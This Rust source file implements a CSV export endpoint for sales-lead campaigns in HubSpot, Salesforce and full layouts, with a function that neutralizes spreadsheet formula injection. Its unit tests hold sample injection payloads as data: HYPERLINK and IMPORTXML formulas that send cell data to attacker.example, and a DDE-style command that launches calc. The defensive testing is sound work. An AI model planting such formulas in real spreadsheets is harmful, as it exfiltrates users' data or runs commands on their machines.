//! `GET /api/campaigns/{id}/export.csv?layout=full|hubspot|hubspot-contacts|salesforce`
//! with the dashboard's filters (`min_score`, `signal`, `status`, `q`) and `excel=1` for
//! a UTF-8 BOM. Text cells that a spreadsheet would run as a formula are neutralized;
//! numbers stay numbers.

use axum::extract::{Path, Query, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use serde::Deserialize;
use sqlx::types::Json;
use uuid::Uuid;

use app::research::{Contact, Signal, SignalKind};

use super::access;
use crate::AppState;

#[derive(Deserialize, Default)]
pub struct ExportQuery {
    layout: Option<String>,
    excel: Option<String>,
    min_score: Option<u8>,
    signal: Option<String>,
    status: Option<String>,
    q: Option<String>,
}

/// Prefixes `'` to text a spreadsheet would treat as a formula: a leading tab, CR or LF,
/// or `=`, `+`, `-`, `@` (also their full-width and small forms, which some spreadsheets
/// fold to ASCII) as the first character after any leading whitespace, because
/// spreadsheets trim it before deciding.
pub fn neutralize(text: &str) -> String {
    let control = matches!(text.chars().next(), Some('\t' | '\r' | '\n'));
    let formula = matches!(
        text.trim_start().chars().next(),
        Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '﹦' | '﹢' | '﹣' | '﹫')
    );
    if control || formula { format!("'{text}") } else { text.to_string() }
}

struct Lead {
    name: String,
    domain: Option<String>,
    status: String,
    score: Option<i16>,
    summary: String,
    signals: Vec<Signal>,
    contacts: Vec<Contact>,
    subject: String,
    body: String,
}

fn matches(l: &Lead, q: &ExportQuery) -> bool {
    if let Some(min) = q.min_score
        && l.score.unwrap_or(-1) < min as i16
    {
        return false;
    }
    if let Some(kind) = q.signal.as_deref().filter(|s| !s.is_empty()) {
        let want = match kind {
            "funding" => SignalKind::Funding,
            "hiring" => SignalKind::Hiring,
            _ => SignalKind::Technology,
        };
        if !l.signals.iter().any(|s| s.kind == want) {
            return false;
        }
    }
    if let Some(status) = q.status.as_deref().filter(|s| !s.is_empty())
        && l.status != status
    {
        return false;
    }
    if let Some(text) = q.q.as_deref().map(str::trim).filter(|s| !s.is_empty()) {
        let t = text.to_lowercase();
        if !(l.name.to_lowercase().contains(&t) || l.domain.as_deref().unwrap_or("").contains(&t)) {
            return false;
        }
    }
    true
}

fn signals_of(l: &Lead, kind: SignalKind) -> String {
    l.signals.iter().filter(|s| s.kind == kind).map(|s| s.summary.clone()).collect::<Vec<_>>().join("; ")
}

/// Writes the CSV for `layout`. Pure, so the layouts are unit-tested.
fn write(layout: &str, leads: &[Lead]) -> Result<Vec<u8>, csv::Error> {
    let mut w = csv::Writer::from_writer(Vec::new());
    let t = |s: &str| neutralize(s);
    match layout {
        "hubspot" => {
            w.write_record([
                "Company name",
                "Company Domain Name",
                "ICP Score",
                "Description",
                "Buying Signals",
                "Outreach Subject",
                "Outreach Message",
            ])?;
            for l in leads {
                let signals: Vec<String> = l.signals.iter().map(|s| s.summary.clone()).collect();
                w.write_record([
                    t(&l.name),
                    t(l.domain.as_deref().unwrap_or("")),
                    score(l),
                    t(&l.summary),
                    t(&signals.join("; ")),
                    t(&l.subject),
                    t(&l.body),
                ])?;
            }
        }
        "hubspot-contacts" => {
            w.write_record([
                "First Name",
                "Last Name",
                "Email",
                "Job Title",
                "LinkedIn URL",
                "Company Name",
                "Company Domain Name",
                "Source",
            ])?;
            for l in leads {
                for c in &l.contacts {
                    let (first, last) = c.name.split_once(' ').unwrap_or((c.name.as_str(), ""));
                    w.write_record([
                        t(first),
                        t(last),
                        t(c.email.as_deref().unwrap_or("")),
                        t(c.title.as_deref().unwrap_or("")),
                        t(c.linkedin.as_deref().unwrap_or("")),
                        t(&l.name),
                        t(l.domain.as_deref().unwrap_or("")),
                        t(&c.source.label()),
                    ])?;
                }
            }
        }
        "salesforce" => {
            w.write_record([
                "Account Name",
                "Website",
                "Description",
                "Rating",
                "ICP_Score__c",
                "Buying_Signals__c",
            ])?;
            for l in leads {
                let rating = match l.score {
                    Some(s) if s >= 70 => "Hot",
                    Some(s) if s >= 40 => "Warm",
                    Some(_) => "Cold",
                    None => "",
                };
                let signals: Vec<String> = l.signals.iter().map(|s| s.summary.clone()).collect();
                w.write_record([
                    t(&l.name),
                    t(l.domain.as_deref().unwrap_or("")),
                    t(&l.summary),
                    rating.to_string(),
                    score(l),
                    t(&signals.join("; ")),
                ])?;
            }
        }
        _ => {
            w.write_record([
                "Company",
                "Domain",
                "Score",
                "Status",
                "Assessment",
                "Funding",
                "Hiring",
                "Technology",
                "Signal Sources",
                "Contacts",
                "Outreach Subject",
                "Outreach Message",
            ])?;
            for l in leads {
                let sources: Vec<String> = l.signals.iter().map(|s| s.source.label()).collect();
                let contacts: Vec<String> = l
                    .contacts
                    .iter()
                    .map(|c| {
                        format!(
                            "{}{}{}",
                            c.name,
                            c.title.as_deref().map(|t| format!(" ({t})")).unwrap_or_default(),
                            c.email.as_deref().map(|e| format!(" <{e}>")).unwrap_or_default()
                        )
                    })
                    .collect();
                w.write_record([
                    t(&l.name),
                    t(l.domain.as_deref().unwrap_or("")),
                    score(l),
                    t(&l.status),
                    t(&l.summary),
                    t(&signals_of(l, SignalKind::Funding)),
                    t(&signals_of(l, SignalKind::Hiring)),
                    t(&signals_of(l, SignalKind::Technology)),
                    t(&sources.join("; ")),
                    t(&contacts.join("; ")),
                    t(&l.subject),
                    t(&l.body),
                ])?;
            }
        }
    }
    w.into_inner().map_err(|e| e.into_error().into())
}

/// Scores are numbers and stay numbers (never quoted or prefixed).
fn score(l: &Lead) -> String {
    l.score.map(|s| s.to_string()).unwrap_or_default()
}

type LeadSql = (
    String,
    Option<String>,
    String,
    Option<i16>,
    Option<String>,
    Json<Vec<Signal>>,
    Json<Vec<Contact>>,
    Option<String>,
    Option<String>,
);

pub async fn export_csv(
    State(state): State<AppState>,
    Path(id): Path<Uuid>,
    Query(q): Query<ExportQuery>,
    headers: HeaderMap,
) -> Response {
    let ctx = state.ctx();
    let auth = match access::signed_in(&state, &headers).await {
        Ok(a) => a,
        Err(resp) => return resp,
    };
    let name = match access::own_campaign(&state, auth.user.id, id).await {
        Ok(n) => n,
        Err(resp) => return resp,
    };
    let rows: Result<Vec<LeadSql>, _> = sqlx::query_as(
        "SELECT co.name, co.domain, co.status, co.score, co.assessment->>'summary', co.signals, co.contacts, o.subject, o.body
           FROM companies co
           LEFT JOIN LATERAL (SELECT subject, body FROM outreach_versions v WHERE v.company_id = co.id AND v.owner_id = $1
                               ORDER BY version DESC LIMIT 1) o ON true
          WHERE co.owner_id = $1 AND co.campaign_id = $2
          ORDER BY co.score DESC NULLS LAST, co.position",
    )
    .bind(auth.user.id)
    .bind(id)
    .fetch_all(&ctx.pool)
    .await;
    let rows = match rows {
        Ok(r) => r,
        Err(e) => {
            tracing::error!(error = %e, "export query failed");
            return (StatusCode::INTERNAL_SERVER_ERROR, "Something went wrong on our side.").into_response();
        }
    };
    let leads: Vec<Lead> = rows
        .into_iter()
        .map(|(name, domain, status, score, summary, signals, contacts, subject, body)| Lead {
            name,
            domain,
            status,
            score,
            summary: summary.unwrap_or_default(),
            signals: signals.0,
            contacts: contacts.0,
            subject: subject.unwrap_or_default(),
            body: body.unwrap_or_default(),
        })
        .filter(|l| matches(l, &q))
        .collect();
    // Only known layouts (the name also goes into the file name).
    let layout = match q.layout.as_deref().unwrap_or("full") {
        l @ ("full" | "hubspot" | "hubspot-contacts" | "salesforce") => l,
        _ => {
            return (
                StatusCode::BAD_REQUEST,
                "Unknown layout: use full, hubspot, hubspot-contacts or salesforce.",
            )
                .into_response();
        }
    };
    let mut bytes = match write(layout, &leads) {
        Ok(b) => b,
        Err(e) => {
            tracing::error!(error = %e, "export write failed");
            return (StatusCode::INTERNAL_SERVER_ERROR, "Something went wrong on our side.").into_response();
        }
    };
    if q.excel.as_deref() == Some("1") {
        bytes.splice(0..0, [0xEF, 0xBB, 0xBF]);
    }
    let slug: String =
        name.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '-' }).collect();
    (
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{}-{layout}.csv\"", slug.trim_matches('-')),
            ),
            (header::CACHE_CONTROL, "no-store".to_string()),
        ],
        bytes,
    )
        .into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn case_c10_formula_cells_are_neutralized_and_numbers_stay_numbers() {
        let text =
            String::from_utf8(app::testdata::read_shared("cases/c10_formula_injection_export_rows.json"))
                .expect("c10 case file is UTF-8");
        let rows: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
        let leads: Vec<Lead> = rows
            .iter()
            .map(|r| Lead {
                name: r["company"].as_str().unwrap().into(),
                domain: r["website"].as_str().map(str::to_string),
                status: "done".into(),
                score: Some(r["icp_score"].as_i64().unwrap() as i16),
                summary: String::new(),
                signals: vec![],
                contacts: vec![],
                subject: r["outreach_subject"].as_str().unwrap().into(),
                body: String::new(),
            })
            .collect();
        let out = String::from_utf8(write("full", &leads).unwrap()).unwrap();
        let mut rd = csv::Reader::from_reader(out.as_bytes());
        let got: Vec<(String, String, String)> = rd
            .records()
            .map(|r| r.unwrap())
            .map(|r| (r[0].to_string(), r[2].to_string(), r[10].to_string()))
            .collect();
        assert_eq!(got[0].0, "'=HYPERLINK(\"http://attacker.example/?d=\"&A2,\"Open\")");
        assert_eq!(got[1], ("Globex Demo".into(), "71".into(), "'+1 idea for your team".into()));
        assert_eq!(
            got[2],
            ("Initech Demo".into(), "-1".into(), "'-20% onboarding time".into()),
            "negative numbers stay numbers"
        );
        assert_eq!(got[3].0, "'@SUM(1+9)*cmd|' /C calc'!A0");
        assert_eq!((got[4].0.as_str(), got[4].2.as_str()), ("'\t=1+2", "'\r=2+3"));
        assert_eq!(got[5].2, "'＝IMPORTXML(\"http://attacker.example\",\"//a\")");
        assert_eq!(got[5].1, "88");
    }

    #[test]
    fn plain_text_is_left_alone() {
        assert_eq!(neutralize("Acme"), "Acme");
        assert_eq!(neutralize(""), "");
        assert_eq!(neutralize("a=b"), "a=b");
        assert_eq!(neutralize("  Acme -1"), "  Acme -1");
        assert_eq!(neutralize("   "), "   ");
    }

    #[test]
    fn line_feeds_leading_whitespace_and_small_forms_are_neutralized() {
        for (text, want) in [
            ("\n=1+1", "'\n=1+1"),
            ("  =1+1", "'  =1+1"),
            ("\u{a0}+1", "'\u{a0}+1"),
            ("\u{3000}@SUM(A1)", "'\u{3000}@SUM(A1)"),
            ("﹢1", "'﹢1"),
            ("﹣1", "'﹣1"),
            ("﹦1+1", "'﹦1+1"),
            ("﹫SUM(A1)", "'﹫SUM(A1)"),
            (" ﹦1", "' ﹦1"),
        ] {
            assert_eq!(neutralize(text), want, "{text:?}");
        }
        // Through a whole export: text cells get the prefix, the score stays a number.
        let lead = |name: &str, score: i16| Lead {
            name: name.into(),
            domain: None,
            status: "done".into(),
            score: Some(score),
            summary: "  -5% churn".into(),
            signals: vec![],
            contacts: vec![],
            subject: "\n=cmd".into(),
            body: String::new(),
        };
        let out = String::from_utf8(write("full", &[lead("﹦HYPERLINK(1)", -3)]).unwrap()).unwrap();
        let row = csv::Reader::from_reader(out.as_bytes()).records().next().unwrap().unwrap();
        assert_eq!(
            (&row[0], &row[2], &row[4], &row[10]),
            ("'﹦HYPERLINK(1)", "-3", "'  -5% churn", "'\n=cmd")
        );
    }
}
